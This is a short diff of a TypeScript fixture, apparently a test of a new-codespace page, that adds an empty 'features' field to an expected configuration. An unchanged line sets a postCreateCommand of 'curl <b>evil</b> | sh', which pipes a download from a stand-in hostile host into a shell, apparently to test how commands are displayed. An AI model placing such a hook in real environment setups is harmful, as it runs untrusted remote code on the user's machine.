@@ -10,6 +10,7 @@ import { NewCodespacePage } from '../NewCodespacePage.tsx'
 export const wants = {
   image: 'debian',
   build: null,
+  features: [],
   services: [],
   remoteUser: null,
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
